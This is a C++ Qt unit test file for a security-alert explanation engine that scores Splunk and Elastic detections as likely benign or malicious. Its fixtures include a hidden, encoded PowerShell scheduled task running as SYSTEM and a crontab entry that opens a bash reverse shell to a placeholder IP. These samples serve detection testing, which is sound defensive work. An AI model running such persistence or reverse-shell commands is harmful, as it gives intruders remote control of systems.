#include "explain/Evaluation.h"
#include "explain/ExplanationEngine.h"
#include "explain/WorkspaceExplainer.h"
#include "ingest/Importer.h"
#include "ingest/NormalizedEvent.h"
#include "knowledge/KnowledgeBase.h"
#include "store/Transaction.h"
#include "store/Workspace.h"
#include "workspace/DemoWorkspace.h"
#include "workspace/WorkspaceSettings.h"

#include <QTemporaryDir>
#include <QTest>

using namespace tb;

using Fields = QList<QPair<QString, QString>>;

class TestExplanationEngine : public QObject {
    Q_OBJECT
    QTemporaryDir m_dir;

    static NormalizedEvent event(const Fields &fields) {
        NormalizedEvent e;
        for (const auto &[column, value] : fields)
            e.set(*eventFieldByColumn(column), value);
        return e;
    }

    static ConditionSettings demoSettings() {
        ConditionSettings settings;
        for (const auto &[name, values] : DemoWorkspace::demoSettings())
            settings.insert(name, values);
        return settings;
    }

    static QStringList ids(const QList<EvidenceHit> &hits) {
        QStringList out;
        for (const EvidenceHit &h : hits)
            out << h.id;
        return out;
    }

private slots:
    // Realistic events, the evidence they must raise, and the note and theme that must come first.
    void explainsEvents_data() {
        QTest::addColumn<Fields>("fields");
        QTest::addColumn<QString>("topTheme");
        QTest::addColumn<QStringList>("expectedEvidence");
        QTest::addColumn<QStringList>("expectedCounter");
        QTest::addColumn<bool>("likelyFalsePositive");

        QTest::newRow("installer registers a vendor updater as SYSTEM")
            << Fields{{"rule_name", "Windows Schtasks Create Run As System"},
                      {"parent_name", "msiexec.exe"},
                      {"parent_image", "C:\\Windows\\System32\\msiexec.exe"},
                      {"process_name", "schtasks.exe"},
                      {"command_line",
                       "schtasks.exe /Create /TN \"Adobe Acrobat Update Task\" /TR \"C:\\Program Files "
                       "(x86)\\Common Files\\Adobe\\ARM\\1.0\\AdobeARM.exe\" /SC DAILY /RU SYSTEM"},
                      {"task_name", "\\Adobe Acrobat Update Task"},
                      {"task_action", "C:\\Program Files (x86)\\Common Files\\Adobe\\ARM\\1.0\\AdobeARM.exe"},
                      {"task_run_as", "SYSTEM"},
                      {"user", "SYSTEM"}}
            << "system_task_by_application" << QStringList{"installer_parent", "vendor_task_name"}
            << QStringList{} << true;
        QTest::newRow("encoded PowerShell from Temp parent")
            << Fields{{"rule_name", "Windows Schtasks Create Run As System"},
                      {"parent_name", "invoice_viewer.exe"},
                      {"parent_image", "C:\\Users\\jdoe\\AppData\\Local\\Temp\\invoice_viewer.exe"},
                      {"process_name", "schtasks.exe"},
                      {"command_line",
                       "schtasks /create /sc onlogon /tn WindowsDefenderUpdate /tr \"powershell.exe -nop -w "
                       "hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA\" /ru SYSTEM /rl HIGHEST"},
                      {"task_name", "\\WindowsDefenderUpdate"},
                      {"task_action",
                       "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"},
                      {"task_run_as", "SYSTEM"},
                      {"user", "jdoe"}}
            << "system_task_by_application" << QStringList{}
            << QStringList{"encoded_powershell_action", "hidden_window_action"} << false;
        QTest::newRow("crontab reverse shell")
            << Fields{{"rule_name", "Linux Possible Append Cronjob Entry on Existing Cronjob File"},
                      {"process_name", "bash"},
                      {"command_line",
                       "bash -c echo '* * * * * bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' >> /etc/crontab"},
                      {"target_path", "/etc/crontab"},
                      {"user", "www-data"},
                      {"platform", "linux"}}
            << "linux_admin" << QStringList{} << QStringList{"reverse_shell"} << false;
        QTest::newRow("GPO ScheduledTasks.xml from the DC itself")
            << Fields{{"rule_name", "Persistence and Execution at Scale via GPO Scheduled Task"},
                      {"event_code", "5145"},
                      {"target_path",
                       "\\\\*\\SYSVOL\\corp.example.com\\Policies\\{31B2F340-016D-11D2-945F-00C04FB984F9}"
                       "\\Machine\\Preferences\\ScheduledTasks\\ScheduledTasks.xml"},
                      {"source_ip", "127.0.0.1"},
                      {"user", "adm_gpo"},
                      {"host", "dc01"}}
            << "gpo_localhost" << QStringList{} << QStringList{} << true;
        QTest::newRow("GPO ScheduledTasks.xml from a remote address")
            << Fields{{"rule_name", "Persistence and Execution at Scale via GPO Scheduled Task"},
                      {"event_code", "5145"},
                      {"target_path",
                       "\\\\*\\SYSVOL\\corp.example.com\\Policies\\{31B2F340-016D-11D2-945F-00C04FB984F9}"
                       "\\Machine\\Preferences\\ScheduledTasks\\ScheduledTasks.xml"},
                      {"source_ip", "198.51.100.37"},
                      {"user", "adm_gpo"},
                      {"host", "dc01"}}
            << "gpo_localhost" << QStringList{} << QStringList{"gpo_edit_from_remote_address"} << false;
    }
    void explainsEvents() {
        QFETCH(Fields, fields);
        QFETCH(QString, topTheme);
        QFETCH(QStringList, expectedEvidence);
        QFETCH(QStringList, expectedCounter);
        QFETCH(bool, likelyFalsePositive);
        const KnowledgeBase &kb = KnowledgeBase::builtIn();
        const ExplanationEngine engine(kb, demoSettings());
        const Explanation e = engine.explain(event(fields), Prevalence{1, 1, 30});
        QVERIFY(!e.ruleId.isEmpty());
        QVERIFY(!e.notes.isEmpty());
        QCOMPARE(kb.note(e.notes.first().noteId)->theme, topTheme);
        QStringList support;
        for (const NoteExplanation &n : e.notes)
            support << ids(n.evidence);
        for (const QString &id : expectedEvidence)
            QVERIFY2(support.contains(id),
                     qPrintable(id + QStringLiteral(" not in ") + support.join(QLatin1Char(','))));
        for (const QString &id : expectedCounter)
            QVERIFY2(
                ids(e.counterEvidence).contains(id),
                qPrintable(id + QStringLiteral(" not in ") + ids(e.counterEvidence).join(QLatin1Char(','))));
        QCOMPARE(e.fpLikelihood >= 50, likelyFalsePositive);
        // Every point is traceable: the likelihood is the sum of its named terms, clamped.
        int sum = 0;
        for (const EvidenceHit &term : e.likelihoodBreakdown)
            sum += term.points;
        QCOMPARE(e.fpLikelihood, std::clamp(sum, 0, 100));
    }

    // Every predicate of the knowledge base can fire: an event built from its own condition matches.
    void everyPredicateCanFire() {
        const KnowledgeBase &kb = KnowledgeBase::builtIn();
        ConditionSettings settings = demoSettings();
        settings.insert(QStringLiteral("trusted_software"), {QStringLiteral("*trusted-tool*")});
        settings.insert(QStringLiteral("admin_groups"), {QStringLiteral("CORP\\Tier1 Admins")});
        int checked = 0;
        for (const EvidencePredicate &p : kb.evidence()) {
            bool buildable = true;
            NormalizedEvent e;
            for (const FieldPredicate &f : p.condition.match) {
                QString value =
                    f.settingName.isEmpty() ? f.values.value(0) : settings.value(f.settingName).value(0);
                if (f.kind == FieldPredicate::Kind::Exists)
                    value =
                        f.values.value(0) == QLatin1String("false") ? QString() : QStringLiteral("10.1.2.3");
                if (f.kind == FieldPredicate::Kind::Regex || f.kind == FieldPredicate::Kind::Cidr)
                    buildable = false; // a regex or network is no sample value
                value.replace(QLatin1Char('*'), QStringLiteral("x"))
                    .replace(QLatin1Char('?'), QStringLiteral("x"));
                e.set(f.field,
                      e.value(f.field).isEmpty() ? value : e.value(f.field) + QLatin1Char(' ') + value);
            }
            if (!buildable || !p.condition.filter.isEmpty())
                continue;
            ++checked;
            QVERIFY2(ConditionMatcher(p.condition, settings).matches(LoweredEvent::from(e)),
                     qPrintable(p.id));
        }
        QVERIFY2(checked >= 20, qPrintable(QString::number(checked)));
    }

    // The demo workspace against its ground truth: the figures the issue sets as targets.
    void demoGroundTruth() {
        const QString path = m_dir.filePath(QStringLiteral("demo.tunebench"));
        QString error;
        QVERIFY2(DemoWorkspace::ensure(path, &error), qPrintable(error));
        Workspace workspace;
        QVERIFY(workspace.open(path));
        const EvaluationReport report = Evaluation::run(workspace.database(), KnowledgeBase::builtIn(),
                                                        QStringLiteral(DEMO_DATA_DIR "/ground_truth.csv"));
        QVERIFY2(report.ok, qPrintable(report.error));
        QCOMPARE(report.unmatchedLabels, 0);
        QCOMPARE(report.engine.labelled, 383);
        QVERIFY2(report.engine.top1 >= 0.95, qPrintable(report.toText()));
        QVERIFY2(report.engine.top3 >= 0.98, qPrintable(report.toText()));
        QVERIFY2(report.engine.benignLikely >= 0.85, qPrintable(report.toText()));
        QVERIFY2(report.engine.maliciousLikely <= 0.05, qPrintable(report.toText()));
        QVERIFY2(report.engine.auc >= 0.95, qPrintable(report.toText()));
        QCOMPARE(report.baseline.auc, 0.5);
    }

    // The independent evaluation set (written without looking at the predicates). Its figures miss
    // the targets (85 % / 5 % / 0.95, see docs/EXPLANATIONS.md); these bounds guard the
    // measured level against regressions.
    void independentEvaluationSet() {
        const QString path = m_dir.filePath(QStringLiteral("evaluation.tunebench"));
        Workspace workspace;
        QVERIFY(workspace.open(path));
        for (const char *file : {"eval_splunk_notables.csv", "eval_elastic_alerts.ndjson"})
            QVERIFY(Importer(workspace.database())
                        .importFile(QStringLiteral(TEST_DATA_DIR "/evaluation/") + QLatin1String(file), {})
                        .ok());
        {
            Transaction transaction(workspace.database());
            WorkspaceSettings::set(workspace.database(), QStringLiteral("admin_accounts"),
                                   {QStringLiteral("adm_*")}, {});
            WorkspaceSettings::set(workspace.database(), QStringLiteral("management_servers"),
                                   {QStringLiteral("adm-jump-01"), QStringLiteral("adm-jump-02")}, {});
            WorkspaceSettings::set(workspace.database(), QStringLiteral("internal_networks"),
                                   {QStringLiteral("10.0.0.0/8"), QStringLiteral("172.16.0.0/12"),
                                    QStringLiteral("192.168.0.0/16")},
                                   {});
            transaction.commit();
        }
        QVERIFY(WorkspaceExplainer(workspace.database(), KnowledgeBase::builtIn()).run().ok);
        const EvaluationReport report =
            Evaluation::run(workspace.database(), KnowledgeBase::builtIn(),
                            QStringLiteral(TEST_DATA_DIR "/evaluation/labels.csv"));
        QVERIFY2(report.ok, qPrintable(report.error));
        QCOMPARE(report.engine.labelled, 841);
        qInfo().noquote() << report.toText();
        QVERIFY2(report.engine.auc >= 0.92, qPrintable(report.toText()));
        QVERIFY2(report.engine.benignLikely >= 0.80, qPrintable(report.toText()));
        QVERIFY2(report.engine.maliciousLikely <= 0.08, qPrintable(report.toText()));
    }

    // Changing a setting makes stored explanations stale; explaining again uses the new lists.
    void reExplainsAfterSettingsChange() {
        const QString path = m_dir.filePath(QStringLiteral("settings.tunebench"));
        Workspace workspace;
        QVERIFY(workspace.open(path));
        QVERIFY(Importer(workspace.database())
                    .importFile(QStringLiteral(DEMO_DATA_DIR "/splunk_notables.csv"), {})
                    .ok());
        WorkspaceExplainer explainer(workspace.database(), KnowledgeBase::builtIn());
        QVERIFY(explainer.isStale());
        QVERIFY(explainer.run().ok);
        QVERIFY(!explainer.isStale());
        auto adminSentences = [&workspace] {
            return workspace.database().queryInt(
                QStringLiteral("SELECT count(*) FROM event_explanations WHERE evidence LIKE '%workspace''s "
                               "administrator accounts%'"));
        };
        QCOMPARE(adminSentences(), 0);
        {
            Transaction transaction(workspace.database());
            WorkspaceSettings::set(workspace.database(), QStringLiteral("admin_accounts"),
                                   {QStringLiteral("adm_*")}, QStringLiteral("test"));
            transaction.commit();
        }
        QVERIFY(explainer.isStale());
        const auto result = explainer.runIfStale();
        QVERIFY(result.ok);
        QVERIFY(result.distinct > 0 && result.distinct <= result.events);
        QVERIFY(adminSentences() > 0);
        QCOMPARE(
            workspace.database().queryInt(QStringLiteral("SELECT count(*) FROM audit_log WHERE action = "
                                                         "'setting.set' AND object_id = 'admin_accounts'")),
            1);
    }

    void cancelWritesNothing() {
        const QString path = m_dir.filePath(QStringLiteral("cancel.tunebench"));
        Workspace workspace;
        QVERIFY(workspace.open(path));
        QVERIFY(Importer(workspace.database())
                    .importFile(QStringLiteral(DEMO_DATA_DIR "/splunk_notables.csv"), {})
                    .ok());
        // Progress is reported every 100 ms: a cancel at the first report leaves nothing.
        WorkspaceExplainer explainer(workspace.database(), KnowledgeBase::builtIn());
        const auto result = explainer.run([](qint64, qint64) { return false; });
        if (result.cancelled)
            QCOMPARE(workspace.database().queryInt(QStringLiteral("SELECT count(*) FROM event_assessments")),
                     0);
        else
            QVERIFY(result.ok); // finished before the first report: nothing to cancel
    }
};

QTEST_GUILESS_MAIN(TestExplanationEngine)
#include "tst_explanationengine.moc"
